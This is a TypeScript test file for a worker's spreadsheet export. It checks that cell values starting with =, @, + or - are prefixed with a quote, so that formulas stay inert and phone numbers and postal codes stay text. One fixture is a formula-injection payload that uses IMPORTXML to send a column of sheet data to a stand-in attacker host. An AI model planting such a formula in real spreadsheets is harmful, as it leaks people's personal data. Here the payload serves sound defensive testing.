import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { neutraliseSpreadsheetCell, sheetRow } from './spreadsheet.ts';

// The cases the shared package's twin is tested against too.
const cases = JSON.parse(
  readFileSync(
    join(__dirname, '..', '..', '..', 'shared', 'src', 'format', 'spreadsheet-cases.json'),
    'utf8',
  ),
) as { neutralised: [string, string][]; unchanged: string[] };

describe('the worker’s spreadsheet cells', () => {
  test.each(cases.neutralised)('%j is marked as text', (value, expected) => {
    expect(neutraliseSpreadsheetCell(value)).toBe(expected);
  });

  test.each(cases.unchanged)('%j is left as typed', (value) => {
    expect(neutraliseSpreadsheetCell(value)).toBe(value);
  });
});

describe('a sheet row', () => {
  test('carries no live formula, its phone as text and its figures as numbers', () => {
    const row = sheetRow({
      id: 'f1d7a1c2-0000-4000-8000-000000000001',
      fullName: '=IMPORTXML(CONCAT("https://evil.example/?",E2:E99),"//a")',
      email: '@evil@example.com',
      phone: '+33612345678',
      message: '-1+1',
      postalCode: '06000',
      surface: 30,
      totalPrice: 1760,
      hasElevator: 'Non',
    });
    expect(row).toEqual({
      id: 'f1d7a1c2-0000-4000-8000-000000000001',
      fullName: '\'=IMPORTXML(CONCAT("https://evil.example/?",E2:E99),"//a")',
      email: "'@evil@example.com",
      phone: "'+33612345678",
      message: "'-1+1",
      postalCode: "'06000",
      surface: 30,
      totalPrice: 1760,
      hasElevator: 'Non',
    });
  });

  test('an alert row’s phone and name are inert too', () => {
    const row = sheetRow({
      id: 'alerte:x',
      alert: 'E-mail non parti',
      fullName: '+1 cmd',
      phone: '0612345678',
    });
    expect(row.fullName).toBe("'+1 cmd");
    expect(row.phone).toBe("'0612345678");
  });
});
